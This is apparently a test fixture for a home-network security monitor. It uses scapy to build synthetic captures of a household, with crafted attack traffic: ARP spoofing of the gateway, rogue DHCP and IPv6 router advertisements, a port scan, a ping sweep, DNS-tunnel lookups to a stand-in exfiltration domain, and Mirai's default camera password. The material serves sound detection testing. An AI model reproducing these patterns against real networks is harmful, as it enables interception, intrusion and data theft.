"""A household, crafted with scapy: a week of learning, then a day with one instance of
every detection among ordinary encrypted browsing.

The day is built as episodes at given times; each episode is a list of packets a few
milliseconds apart. `EXPECTED_FINDINGS` says which rule fires for which device, and
why; the scenario test replays the captures and wants exactly that.
"""

from __future__ import annotations

import struct
from itertools import islice
from typing import Any

from scapy.all import (  # type: ignore[attr-defined]
    ARP,
    BOOTP,
    DHCP,
    DNS,
    DNSQR,
    DNSRR,
    ICMP,
    IP,
    TCP,
    UDP,
    Ether,
    ICMPv6ND_RA,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
)

from tests.conversations import (
    Endpoint,
    client_hello,
    dated_certificate,
    http_message,
    server_hello_and_certificate,
    tcp_conversation,
)
from tests.dga_families import ramnit

DAY = 86400.0
LEARNING_START = 1_767_225_600.0  # 2026-01-01 00:00 UTC
TODAY = LEARNING_START + 8 * DAY  # the learning week (7 days) is over

ROUTER: Endpoint = ("3c:a6:2f:00:00:01", "192.168.1.1")  # AVM
LAPTOP: Endpoint = ("f4:7b:09:00:00:20", "192.168.1.20")  # Intel
PHONE_LAST_WEEK: Endpoint = ("da:a1:19:00:00:01", "192.168.1.30")  # a private (randomised) MAC
PHONE_TODAY: Endpoint = ("fa:b2:33:00:00:02", "192.168.1.31")  # the same phone, a new private MAC
TV: Endpoint = ("8c:79:f5:00:00:40", "192.168.1.40")  # Samsung
CAMERA: Endpoint = ("44:19:b6:00:00:50", "192.168.1.50")  # Hikvision
PI: Endpoint = ("dc:a6:32:00:00:66", "192.168.1.66")  # Raspberry Pi: new today, and up to no good

IPHONE_PRL = [1, 121, 3, 6, 15, 108, 114, 119, 252]
HOSTNAMES = {
    LAPTOP: "anna-laptop",
    PHONE_LAST_WEEK: "Annas-iPhone",
    PHONE_TODAY: "Annas-iPhone",
    TV: "living-room-tv",
    CAMERA: "garden-camera",
    PI: "raspberrypi",
}
THREATS = ["bad-bank.example", "203.0.113.66"]  # the user's threat list for the test
CLOUD_CERTIFICATE = dated_certificate(TODAY - 400 * DAY, TODAY - 35 * DAY)  # the camera cloud's: expired

# (rule, device MAC): what today must produce, and nothing else. A finding is one per
# rule, device and key, so the laptop's two cleartext passwords (POP3, telnet) are two.
EXPECTED_FINDINGS = [
    ("miniupnpd-vulnerable", ROUTER[0]),  # its SSDP NOTIFY announces MiniUPnPd/1.3
    ("personal-data-cleartext", PHONE_TODAY[0]),  # GPS position in a plain-HTTP weather request
    ("known-bad-name", PHONE_TODAY[0]),  # looked up a name on the threat list
    ("cleartext-password", LAPTOP[0]),  # POP3 login ...
    ("cleartext-password", LAPTOP[0]),  # ... and the telnet login below
    ("mail-without-tls", LAPTOP[0]),  # ... and mail fetched without TLS
    ("telnet-in-use", LAPTOP[0]),  # telnet to the camera ...
    ("default-password", LAPTOP[0]),  # ... logged in as root/xc3511 (Mirai's list)
    ("dropbear-outdated", CAMERA[0]),  # the camera's SSH server is dropbear 2014.63
    ("tracker-contact", TV[0]),  # Samsung's viewing-data (ACR) host, by DNS and SNI ...
    ("new-company", TV[0]),  # ... the first data to Samsung since the learning week (recorded)
    ("new-company", PHONE_TODAY[0]),  # its new private MAC is a new device to the ledger: Apple (recorded)
    ("dns-foreign-resolver", TV[0]),  # asked 8.8.8.8 instead of the router
    ("old-tls-version", TV[0]),  # a server that still picks TLS 1.0
    ("libupnp-vulnerable", TV[0]),  # libupnp 1.6.6 in its SSDP NOTIFY
    ("upnp-port-mapping", CAMERA[0]),  # opened port 8554 on the router
    ("weak-tls-cipher", CAMERA[0]),  # its cloud picked 3DES ...
    ("invalid-certificate-dates", CAMERA[0]),  # ... with a certificate that ran out last month (recorded)
    ("cleartext-password", CAMERA[0]),  # FTP upload of snapshots ...
    ("ftp-in-use", CAMERA[0]),  # ... over FTP
    ("inbound-connection", CAMERA[0]),  # reached from the internet on port 554
    ("dga-lookups", CAMERA[0]),  # thirty machine-made domains in minutes ...
    ("nxdomain-burst", CAMERA[0]),  # ... none of which exists
    ("known-bad-address", CAMERA[0]),  # connected to an address on the threat list
    ("new-device", PI[0]),  # a device never seen in the learning week
    ("arp-spoofing-gateway", PI[0]),  # claims the router's address
    ("rogue-dhcp", PI[0]),  # offers leases, with itself as the gateway
    ("rogue-router-advertisement", PI[0]),  # advertises itself as IPv6 router
    ("port-scan", PI[0]),  # 100 ports of the camera in seconds
    ("host-sweep", PI[0]),  # pings every address of the network
    ("dns-tunnel", PI[0]),  # long random names under one domain
]


class Timeline:
    """Packets with their capture times, episode by episode."""

    def __init__(self) -> None:
        self.packets: list[Any] = []

    def at(self, ts: float, packets: list[Any], step: float = 0.005) -> None:
        for i, pkt in enumerate(packets):
            pkt.time = ts + i * step
            self.packets.append(pkt)

    def sorted(self) -> list[Any]:
        return sorted(self.packets, key=lambda p: float(p.time))


# -- building blocks ---------------------------------------------------------------


def mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def dhcp_join(device: Endpoint, prl: list[int] | None = None) -> list[Any]:
    """Discover, offer, request, ack: the router's ack names the gateway and resolver."""
    mac, ip = device
    hostname = HOSTNAMES.get(device, "new-device").encode()
    params = ("param_req_list", prl or [1, 3, 6, 15, 28, 51, 58, 59])
    client = (
        Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
        / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67)
    )
    server = Ether(src=ROUTER[0], dst=mac) / IP(src=ROUTER[1], dst=ip) / UDP(sport=67, dport=68)
    server_options = [("server_id", ROUTER[1]), ("router", ROUTER[1]), ("name_server", ROUTER[1])]
    return [
        client
        / BOOTP(chaddr=mac_bytes(mac), xid=7)
        / DHCP(options=[("message-type", "discover"), ("hostname", hostname), params, "end"]),
        server
        / BOOTP(op=2, yiaddr=ip, chaddr=mac_bytes(mac), xid=7)
        / DHCP(options=[("message-type", "offer"), *server_options, ("lease_time", 86400), "end"]),
        client
        / BOOTP(chaddr=mac_bytes(mac), xid=7)
        / DHCP(
            options=[
                ("message-type", "request"),
                ("requested_addr", ip),
                ("server_id", ROUTER[1]),
                ("hostname", hostname),
                params,
                "end",
            ]
        ),
        server
        / BOOTP(op=2, yiaddr=ip, chaddr=mac_bytes(mac), xid=7)
        / DHCP(options=[("message-type", "ack"), *server_options, ("lease_time", 86400), "end"]),
    ]


def lookup(
    device: Endpoint, name: str, answer: str | None, resolver: Endpoint = ROUTER, qid: int = 1
) -> list[Any]:
    """A DNS query and its answer (None: NXDOMAIN); a public resolver's answer comes
    through the router."""
    resolver_mac = resolver[0] if resolver[1].startswith("192.168.") else ROUTER[0]
    up = (
        Ether(src=device[0], dst=resolver_mac)
        / IP(src=device[1], dst=resolver[1])
        / UDP(sport=53000 + qid, dport=53)
    )
    down = (
        Ether(src=resolver_mac, dst=device[0])
        / IP(src=resolver[1], dst=device[1])
        / UDP(sport=53, dport=53000 + qid)
    )
    if answer is None:
        reply = DNS(id=qid, qr=1, rd=1, ra=1, rcode=3, qd=DNSQR(qname=name))
    else:
        reply = DNS(
            id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=answer, ttl=300)
        )
    return [up / DNS(id=qid, rd=1, qd=DNSQR(qname=name)), down / reply]


def internet(ip: str) -> Endpoint:
    """A server on the internet, as the LAN sees it: behind the router's MAC."""
    return (ROUTER[0], ip)


def tls13_server_hello() -> bytes:
    body = struct.pack("!H", 0x0303) + b"\x01" * 32 + b"\x00" + struct.pack("!HB", 0x1301, 0)
    body += struct.pack("!H", 6) + struct.pack("!HHH", 43, 2, 0x0304)
    hello = b"\x02" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x03" + struct.pack("!H", len(hello)) + hello


def browse(device: Endpoint, name: str, server_ip: str, sport: int, qid: int) -> list[Any]:
    """Benign encrypted browsing: a lookup, then a TLS 1.3 connection."""
    hello = client_hello(sni=name)
    return [
        *lookup(device, name, server_ip, qid=qid),
        *tcp_conversation(
            [(True, hello), (False, tls13_server_hello()), (True, b"\x17\x03\x03\x00\x10" + b"\x00" * 16)],
            dport=443,
            sport=sport,
            client=device,
            server=internet(server_ip),
        ),
    ]


def ssdp_notify(device: Endpoint, server: str) -> Any:
    return (
        Ether(src=device[0], dst="01:00:5e:7f:ff:fa")
        / IP(src=device[1], dst="239.255.255.250")
        / UDP(sport=1900, dport=1900)
        / (
            "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\n"
            f"SERVER: {server}\r\nLOCATION: http://{device[1]}:49152/desc.xml\r\n"
            f"USN: uuid:{device[0]}\r\n\r\n"
        ).encode()
    )


def router_advertisement(device: Endpoint) -> Any:
    return (
        Ether(src=device[0], dst="33:33:00:00:00:01")
        / IPv6(src="fe80::" + device[0][-5:].replace(":", ""), dst="ff02::1")
        / ICMPv6ND_RA(routerlifetime=1800)
        / ICMPv6NDOptSrcLLAddr(lladdr=device[0])
        / ICMPv6NDOptPrefixInfo(prefixlen=64, prefix="2001:db8:1::")
        / ICMPv6NDOptRDNSS(dns=["2001:db8:1::1"])
    )


def arp_reply(sender: Endpoint, claimed_ip: str, target: Endpoint) -> Any:
    return Ether(src=sender[0], dst=target[0]) / ARP(
        op=2, hwsrc=sender[0], psrc=claimed_ip, hwdst=target[0], pdst=target[1]
    )


# -- the captures --------------------------------------------------------------------


def learning_week() -> list[Any]:
    """Everyone at home, day after day: joins, lookups and encrypted browsing. Nothing wrong."""
    week = Timeline()
    for day in range(7):
        start = LEARNING_START + day * DAY
        week.at(start, [arp_reply(ROUTER, ROUTER[1], LAPTOP), router_advertisement(ROUTER)])
        for n, device in enumerate((LAPTOP, PHONE_LAST_WEEK, TV, CAMERA)):
            prl = IPHONE_PRL if device is PHONE_LAST_WEEK else None
            week.at(start + 600 + n * 60, dhcp_join(device, prl))
        week.at(start + 3600, browse(LAPTOP, "www.wikipedia.org", "192.0.2.20", 41000 + day, 10 + day))
        week.at(start + 7200, browse(PHONE_LAST_WEEK, "www.apple.com", "192.0.2.10", 42000 + day, 20 + day))
        week.at(start + 9000, browse(TV, "www.netflix.com", "192.0.2.30", 43000 + day, 30 + day))
    return week.sorted()


def today() -> list[Any]:
    day = Timeline()
    t = TODAY
    # Night: the router announces itself; its UPnP stack is old.
    day.at(t, [router_advertisement(ROUTER), arp_reply(ROUTER, ROUTER[1], LAPTOP)])
    day.at(t + 60, [ssdp_notify(ROUTER, "Linux/3.4 UPnP/1.0 MiniUPnPd/1.3")])
    # 07:00 the phone is back, with a new private MAC but the same name and fingerprint.
    phone = PHONE_TODAY
    day.at(t + 7 * 3600, dhcp_join(phone, IPHONE_PRL))
    day.at(t + 7 * 3600 + 30, browse(phone, "www.apple.com", "192.0.2.10", 42100, 100))
    weather = http_message(
        "GET /forecast?lat=52.3702&lon=4.8952&units=metric HTTP/1.1",
        "Host: weather.example",
        "User-Agent: Weather/2.1",
    )
    day.at(
        t + 7 * 3600 + 300,
        [
            *lookup(phone, "weather.example", "198.51.100.20", qid=101),
            *tcp_conversation(
                [(True, weather), (False, http_message("HTTP/1.1 200 OK", "Content-Length: 0"))],
                dport=80,
                sport=42101,
                client=phone,
                server=internet("198.51.100.20"),
            ),
        ],
    )
    day.at(t + 7 * 3600 + 600, lookup(phone, "login.bad-bank.example", "198.51.100.80", qid=102))
    # 08:00 the laptop: browsing, then old habits (POP3, telnet to the camera, SSH).
    laptop = LAPTOP
    day.at(t + 8 * 3600, browse(laptop, "www.wikipedia.org", "192.0.2.20", 41100, 110))
    pop3 = [
        (False, b"+OK POP3 ready\r\n"),
        (True, b"USER anna\r\n"),
        (False, b"+OK\r\n"),
        (True, b"PASS correct-horse\r\n"),
        (False, b"+OK 1 message\r\n"),
        (True, b"RETR 1\r\n"),
        (False, b"+OK\r\nSubject: hi\r\n\r\nhello\r\n.\r\n"),
    ]
    day.at(
        t + 8 * 3600 + 1800, tcp_conversation(pop3, 110, 41101, client=laptop, server=internet("192.0.2.110"))
    )
    telnet = [
        (False, b"\r\ngarden-camera login: "),
        (True, b"root\r\n"),
        (False, b"Password: "),
        (True, b"xc3511\r\n"),
        (False, b"\r\n# "),
    ]
    day.at(t + 9 * 3600, tcp_conversation(telnet, 23, 41102, client=laptop, server=CAMERA))
    day.at(
        t + 9 * 3600 + 300,
        tcp_conversation([(False, b"SSH-2.0-dropbear_2014.63\r\n")], 22, 41103, client=laptop, server=CAMERA),
    )
    # 10:00 the TV: Samsung's viewing data, its own DNS server, an old TLS server, old libupnp.
    tv = TV
    acr = "log-ingestion-eu.samsungacr.com"
    day.at(t + 10 * 3600, browse(tv, acr, "192.0.2.40", 43100, 120))
    day.at(
        t + 10 * 3600 + 300, lookup(tv, "www.netflix.com", "192.0.2.30", resolver=("", "8.8.8.8"), qid=121)
    )
    legacy = [
        (True, client_hello(sni="portal.legacy.example")),
        (False, server_hello_and_certificate(0x0301, 0x002F)),
    ]
    day.at(
        t + 10 * 3600 + 600, tcp_conversation(legacy, 443, 43101, client=tv, server=internet("203.0.113.44"))
    )
    day.at(
        t + 10 * 3600 + 900, [ssdp_notify(tv, "Linux/2.6.35 UPnP/1.0 Portable SDK for UPnP devices/1.6.6")]
    )
    # 11:00 the camera: a port opened in the router, a weak cloud cipher, FTP uploads.
    camera = CAMERA
    soap = (
        b'<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping>'
        b"<NewRemoteHost></NewRemoteHost><NewExternalPort>8554</NewExternalPort><NewProtocol>TCP</NewProtocol>"
        b"<NewInternalPort>554</NewInternalPort><NewInternalClient>192.168.1.50</NewInternalClient>"
        b"<NewEnabled>1</NewEnabled><NewPortMappingDescription>rtsp</NewPortMappingDescription>"
        b"<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"
    )
    upnp = http_message(
        "POST /ctl/IPConn HTTP/1.1",
        "Host: 192.168.1.1:5000",
        'SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"',
        f"Content-Length: {len(soap)}",
        body=soap,
    )
    day.at(
        t + 11 * 3600,
        tcp_conversation(
            [(True, upnp), (False, http_message("HTTP/1.1 200 OK", "Content-Length: 0"))],
            5000,
            44100,
            client=camera,
            server=ROUTER,
        ),
    )
    cloud = [
        (True, client_hello(sni="cloud.camera.example")),
        (False, server_hello_and_certificate(0x0303, 0x000A, CLOUD_CERTIFICATE)),
    ]
    day.at(
        t + 11 * 3600 + 300,
        tcp_conversation(cloud, 443, 44101, client=camera, server=internet("203.0.113.55")),
    )
    ftp = [
        (False, b"220 snapshots\r\n"),
        (True, b"USER cam\r\n"),
        (False, b"331 password\r\n"),
        (True, b"PASS snapshot-upload\r\n"),
        (False, b"230 ok\r\n"),
        (True, b"STOR garden-0800.jpg\r\n"),
    ]
    day.at(
        t + 11 * 3600 + 600, tcp_conversation(ftp, 21, 44102, client=camera, server=internet("192.0.2.21"))
    )
    # 12:00 someone on the internet reaches the camera's video stream through that port.
    outsider = internet("198.51.100.99")
    day.at(
        t + 12 * 3600,
        tcp_conversation(
            [(True, b"OPTIONS rtsp://x/ RTSP/1.0\r\nCSeq: 1\r\n\r\n")],
            554,
            51000,
            client=outsider,
            server=camera,
        ),
    )
    # 13:00 the camera behaves like malware: a real DGA family's names, then a botnet address.
    random_names = list(islice(ramnit(), 30))
    day.at(
        t + 13 * 3600,
        [
            pkt
            for i, name in enumerate(random_names)
            for pkt in lookup(camera, name, None, qid=200 + i)  # NXDOMAIN: none exists
        ],
        step=2.0,
    )
    day.at(
        t + 13 * 3600 + 300,
        [
            Ether(src=camera[0], dst=ROUTER[0])
            / IP(src=camera[1], dst="203.0.113.66")
            / TCP(sport=44200, dport=443, flags="S")
        ],
    )
    # 20:00 a Raspberry Pi joins, and attacks.
    pi = PI
    day.at(t + 20 * 3600, dhcp_join(pi))
    day.at(t + 20 * 3600 + 60, [arp_reply(pi, ROUTER[1], LAPTOP)])
    rogue_offer = (
        Ether(src=pi[0], dst="ff:ff:ff:ff:ff:ff")
        / IP(src=pi[1], dst="255.255.255.255")
        / UDP(sport=67, dport=68)
        / BOOTP(op=2, yiaddr="192.168.1.99", chaddr=mac_bytes(LAPTOP[0]), xid=9)
        / DHCP(
            options=[
                ("message-type", "offer"),
                ("server_id", pi[1]),
                ("router", pi[1]),
                ("name_server", pi[1]),
                "end",
            ]
        )
    )
    day.at(t + 20 * 3600 + 120, [rogue_offer])
    day.at(t + 20 * 3600 + 180, [router_advertisement(pi)])
    scan = [
        Ether(src=pi[0], dst=camera[0])
        / IP(src=pi[1], dst=camera[1])
        / TCP(sport=50000, dport=port, flags="S")
        for port in range(1000, 1100)
    ]
    day.at(t + 20 * 3600 + 300, scan, step=0.05)
    sweep = [
        Ether(src=pi[0], dst=ROUTER[0]) / IP(src=pi[1], dst=f"192.168.1.{n}") / ICMP(id=1, seq=n)
        for n in range(1, 255)
        if n != 66
    ]
    day.at(t + 20 * 3600 + 600, sweep, step=0.1)
    tunnel = [
        pkt
        for i in range(40)
        for pkt in lookup(
            pi,
            f"{'4f2a9c71e8b3d05a6c1f' * 2}{i:04x}a7.{'e9d27b13c8f4056a' * 2}.t.exfil.example",
            "192.0.2.99",
            qid=300 + i,
        )
    ]
    day.at(t + 20 * 3600 + 1200, tunnel, step=1.0)
    return day.sorted()
